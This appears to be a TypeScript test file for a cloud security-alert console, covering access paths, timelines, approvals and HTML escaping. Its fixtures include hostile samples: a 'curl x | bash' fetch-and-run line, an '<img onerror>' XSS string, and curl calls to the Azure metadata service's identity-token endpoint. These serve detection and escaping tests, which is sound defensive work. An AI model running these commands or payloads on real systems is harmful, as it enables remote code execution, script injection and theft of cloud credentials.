import { accessGraph, accessSteps } from '../../../src/chat/console/alert/access-graph';
import { markdownOf } from '../../../src/chat/console/alert/copy';
import { scoreBreakdown } from '../../../src/chat/console/alert/score-breakdown';
import { sheetHtml } from '../../../src/chat/console/forms';
import { messageOf } from '../../../src/chat/message';
import { timelineOf } from '../../../src/chat/timeline';
import { type Alert, newAlert } from '../../../src/domain/alerts/alert';
import type { Access, MachineFacts } from '../../../src/domain/alerts/facts';
import { acknowledge, close } from '../../../src/domain/alerts/transitions';
import { type Measure, measureIdOf } from '../../../src/domain/measures/measure';
import { type Execution, executionFrom } from '../../../src/domain/techniques/execution';
import { pageTextOf } from '../../support/alert-page';
import { factsAbout, untouched } from '../../support/alerts';
import { event, vm } from '../../support/event';

const start = Date.parse('2026-11-20T22:00:00.000Z');
const at = (minutes: number) => new Date(start + minutes * 60_000).toISOString();
const by = { surface: 'console', id: 'alex', name: 'Alex Kim' };
const hostile = '<img src=x onerror=alert(1)>"\'&';
const caller = { id: 'c', name: 'dana', upn: 'dana', type: 'User' as const, ip: '203.0.113.24', appId: null };
const execution = {
  ...(executionFrom(event({ caller })) as Execution),
  startedAt: at(0),
  lastEventAt: at(0),
  status: 'succeeded' as const,
};
const access: Access = {
  grant: { role: 'Virtual Machine Contributor', scope: '/subscriptions/s', assignmentId: 'a' },
  source: 'log',
  group: { name: 'ops-oncall', members: 2 },
  assignedAt: null,
  assignedBy: null,
  until: null,
  condition: null,
  otherWays: 0,
  alsoCan: [],
  machines: 3,
  subscriptionName: 'Payments',
};
const machine: MachineFacts = {
  os: 'Linux',
  power: 'running',
  agent: null,
  tags: {},
  environment: 'production',
  publicIps: [],
  openPorts: [],
  encryption: null,
  locks: [],
  identityCan: ['read secrets (Key Vault Secrets User at kv-pay)'],
  identities: [],
};
const script = {
  text: `set -e\ncurl x | bash\necho '${hostile}'`,
  sha256: 'a'.repeat(64),
  parameters: [hostile],
  runAs: 'root',
  redacted: [],
  traits: [{ name: 'downloads and runs', line: 2, text: 'curl x | bash' }],
};
const alert: Alert = {
  ...newAlert('RW-1', [execution], at(1)),
  announced: true,
  severity: 'critical',
  score: 74,
  reasons: [
    { id: 'technique', points: 47, text: 'Run command' },
    { id: 'firstOnMachine', points: 15, text: 'first time on this machine' },
    { id: 'refusalsBefore', points: 12, text: '3 denied attempts just before' },
  ],
  facts: { ...factsAbout(execution, { machine, script, run: { output: hostile, exitCode: 0 } }), access },
};
const isolation = (fields: Partial<Measure>): Measure => ({
  id: measureIdOf('isolation', vm),
  kind: 'isolation',
  target: vm.toLowerCase(),
  name: 'vm-1',
  subjects: [`machine:${vm.toLowerCase()}`],
  rev: 1,
  state: 'in force',
  way: 'do',
  action: 'isolate',
  by,
  at: at(3),
  changedAt: at(4),
  press: 'p1',
  alerts: ['RW-1'],
  before: { interfaces: [] },
  steps: [
    { words: 'Save the security groups', state: 'done' },
    { words: 'Deny new connections', state: 'waiting' },
  ],
  says: 'Isolated: new connections are denied.',
  signature: 's',
  ...fields,
});

test('the access path leads from the caller to what the machine’s identity reaches', () => {
  expect(accessSteps(alert).map(({ kind, name, more }) => [kind, name, more])).toEqual([
    ['Caller', 'dana', 'User'],
    ['Group', 'ops-oncall', '2 members'],
    ['Role', 'Virtual Machine Contributor', ''],
    ['Scope', 'subscription Payments', ''],
    ['Machine', 'vm-1', 'rg'],
    ['Its identity', 'Managed identity', ''],
    ['Reaches', 'read secrets', 'Key Vault Secrets User at kv-pay'],
  ]);
  const text = accessGraph(alert) ? (accessGraph(alert) as { text: string }).text : '';
  expect(text).toContain('<li>Group: ops-oncall, 2 members</li>');
  expect(text.match(/aria-hidden="true"/g)).toHaveLength(2);
});

test('nothing is drawn where no grant is known, or where Azure denied the call', () => {
  expect(accessGraph({ ...alert, facts: {} })).toBe(false);
  expect(accessGraph({ ...alert, executions: [{ ...execution, refused: true }] })).toBe(false);
});

test('the score breakdown adds up, and says where it was capped', () => {
  const text = scoreBreakdown(alert).text;
  expect(text).toContain('Score breakdown: 74<');
  expect(text).toContain('+15');
  expect(scoreBreakdown({ ...alert, score: 70 }).text).toContain('74 points, capped at 70');
});

test('one timeline has Azure’s events, what Runwatch and people did, and notes, in order', () => {
  const told: Alert = {
    ...acknowledge(alert, { by, at: at(2) }),
    triage: { notes: [{ at: at(5), by, text: 'seen before' }] },
    facts: {
      ...alert.facts,
      timeline: [
        {
          at: at(-1),
          who: 'dana',
          operation: 'Microsoft.Compute/snapshots/write',
          on: 'snap-1',
          status: 'succeeded',
          count: 2,
          notable: false,
        },
      ],
    },
  };
  const events = timelineOf({ alert: told, measures: [isolation({})], approvals: [] });
  expect(events.map(({ source }) => source)).toEqual([
    'Azure',
    'This alert',
    'Runwatch',
    'People',
    'People',
    'Runwatch',
    'Note',
  ]);
});

test('the timeline tells an undo from what it undoes', () => {
  const undone = isolation({ state: 'undone', way: 'undo', action: 'release', says: 'Released.' });
  const lines = timelineOf({ alert, measures: [undone], approvals: [] }).map(({ line }) =>
    JSON.stringify(line),
  );
  expect(lines.join()).toContain('requested to undo: Isolate, vm-1');
});

test('after an undo, the timeline still has who applied the measure and who approved it', () => {
  const person = (name: string) => ({ ...by, id: name, name });
  const undone = isolation({
    ...{ state: 'undone', way: 'undo', action: 'release', by: person('Lee'), at: at(9), says: 'Released.' },
    applied: { by: person('Maya'), approvedBy: person('Omar'), at: at(3) },
  });
  const lines = timelineOf({ alert, measures: [undone], approvals: [] })
    .map(({ line }) =>
      line.map((part) => (typeof part === 'object' && 'bold' in part ? part.bold : part)).join(''),
    )
    .filter((line) => line.includes('requested'));
  expect(lines).toEqual([
    'Maya requested: Isolate, vm-1, approved by Omar',
    'Lee requested to undo: Isolate, vm-1',
  ]);
});

test('a measure that ended before the alert’s first command is not on its timeline', () => {
  const ended = (fields: Partial<Measure>) =>
    timelineOf({
      alert,
      measures: [
        isolation({
          state: 'undone',
          way: 'undo',
          changedAt: at(-60),
          at: at(-60),
          says: 'Released.',
          ...fields,
        }),
      ],
      approvals: [],
    }).filter(({ line }) => JSON.stringify(line).includes('undo')).length;
  expect(ended({ alerts: ['RW-0'] })).toBe(0);
  expect(ended({ alerts: ['RW-0', 'RW-1'] })).toBe(1);
});

test('people are not offered to approve their own request', () => {
  const asker = { ...by, id: 'maya', name: 'Maya', objectId: 'o1', tenant: 't1' };
  const approval = {
    ...{
      id: 'AP-1',
      rev: 1,
      state: 'asked' as const,
      alertId: 'RW-1',
      action: 'isolate',
      what: 'Isolate: vm-1',
    },
    ...{ why: 'two people', by: asker, at: at(2), until: at(17), needed: 1 as const, pin: null, job: {} },
    ...{ signature: '', approvals: [] },
  };
  const shownTo = (viewer: typeof asker) =>
    pageTextOf({ alert, measures: [], approvals: [approval] }, { viewer, now: Date.parse(at(3)) });
  const approve = 'data-action="approve"';
  expect(shownTo({ ...asker, id: 'omar', name: 'Omar', objectId: 'o2' })).toContain(approve);
  expect(shownTo(asker)).not.toContain(approve);
  expect(shownTo(asker)).toContain('data-action="decline"');
});

test('the timeline has the programs that started with the address of the identity’s tokens, each once', () => {
  const ran = (name: string, commandLine: string, depth: number) => ({
    ...{ at: at(1), table: 'DeviceProcessEvents', name, commandLine, account: 'root' },
    ...{ parent: '', depth, origin: 'command' as const },
  });
  const curl = 'curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token';
  const guest = {
    ...{ from: at(0), to: at(15), readAt: at(2), final: true, failed: [], tables: ['DeviceProcessEvents'] },
    ...{ logons: [], connections: [], cut: false, redacted: [], tries: 0 },
    counts: { processes: 4, byCommand: 4, logons: 0, connections: 0 },
    processes: [
      ran('sh', `sh -c "${curl}"`, 0),
      ran('curl', curl, 1),
      ran('curl', 'curl http://169.254.169.254/metadata/instance', 1),
      ran('curl', 'curl https://example.com/metadata/identity', 1),
    ],
  };
  const told: Alert = { ...alert, facts: { guest: { [vm.toLowerCase()]: guest } } };
  const lines = timelineOf({ alert: told, measures: [], approvals: [] })
    .filter(({ source }) => source === 'Machine log')
    .map(({ line }) => line);
  expect(lines).toEqual([
    [{ bold: 'curl started with the metadata service’s token address' }, ' on vm-1 · 169.254.169.254'],
  ]);
});

test('no name, script or output becomes markup', () => {
  const evil = { ...caller, name: hostile, upn: hostile };
  const named: Alert = {
    ...alert,
    executions: [{ ...execution, caller: evil }],
    reasons: [{ id: 'technique', points: 47, text: hostile }],
    assignee: { ...by, name: hostile },
    facts: {
      ...alert.facts,
      access: {
        ...access,
        group: { name: hostile, members: 1 },
        grant: { ...access.grant, role: hostile } as never,
      },
    },
    triage: { notes: [{ at: at(1), by: { ...by, name: hostile }, text: hostile, link: hostile }] },
  };
  const measures = [isolation({ name: hostile, reason: hostile, state: 'failed' })];
  const page = pageTextOf({ alert: named, measures, approvals: [] });
  expect(page).not.toContain('<img');
  expect(markdownOf(named)).not.toMatch(/(?<!\\)<img/);
});

test('flagged lines are marked, also for those who cannot see it', () => {
  const page = pageTextOf(untouched(alert));
  expect(page).toContain('curl x | bash<span class="unseen"> (flagged: downloads and runs)</span></mark>');
  expect(page.match(/<mark/g)).toHaveLength(1);
});

test('a closed alert keeps its facts, and what is in force can be undone', () => {
  const closed = close(alert, 'true positive', { by, at: at(6) });
  const page = pageTextOf({ alert: closed, measures: [isolation({})], approvals: [] });
  for (const text of [
    'Access path',
    'ops-oncall',
    'curl x',
    'Closed as true positive',
    'data-opens="release"',
  ])
    expect(page).toContain(text);
});

test('a failed measure stays, with its reason, Retry and Dismiss', () => {
  const measures = [isolation({ state: 'failed', reason: 'Azure refused it' })];
  const page = pageTextOf({ alert, measures, approvals: [] });
  const own = page.slice(page.indexOf('id="part-measures"'), page.indexOf('id="part-responses"'));
  for (const text of ['Failed', 'Azure refused it', 'data-action="retry"', 'data-action="dismiss"'])
    expect(own).toContain(text);
});

test('a storm’s measures are summarized, and those that failed are named', () => {
  const measures = Array.from({ length: 20 }, (_, i) =>
    isolation({
      id: `M-${i}`,
      name: `vm-${i}`,
      state: i === 7 ? 'failed' : 'in force',
      reason: 'Azure refused it',
    }),
  );
  const page = pageTextOf({ alert, measures, approvals: [] });
  const own = page.slice(page.indexOf('id="part-measures"'), page.indexOf('id="part-responses"'));
  expect(own).toContain('19 of 20');
  expect(own.match(/vm-\d+/g)).toEqual(['vm-7']);
});

test('at most four buttons are offered as the next step', () => {
  const page = pageTextOf(untouched(alert));
  const next = page.slice(page.indexOf('id="part-next"'), page.indexOf('id="part-measures"'));
  expect(next.match(/data-(action|opens)=/g)?.length).toBeLessThanOrEqual(4);
});

test('a form names its object and shows each fault at its field', () => {
  const { actions } = messageOf(untouched(alert), { responders: true, now: 0 }).page();
  const isolate = actions.find(({ id }) => id === 'isolate');
  const closing = actions.find(({ id }) => id === 'close');
  if (!isolate || !closing) throw new Error('both are offered');
  const context = { alertId: 'RW-1', csrf: 'x' };
  expect(sheetHtml(isolate, [], context).text).toContain('Isolate vm-1?');
  const form = sheetHtml(closing, closing.form?.() ?? [], { ...context, faults: { as: 'Choose one' } }).text;
  expect(form).toContain('aria-invalid="true"');
  expect(form).toContain('Choose one');
  expect(form).not.toContain(' selected');
});
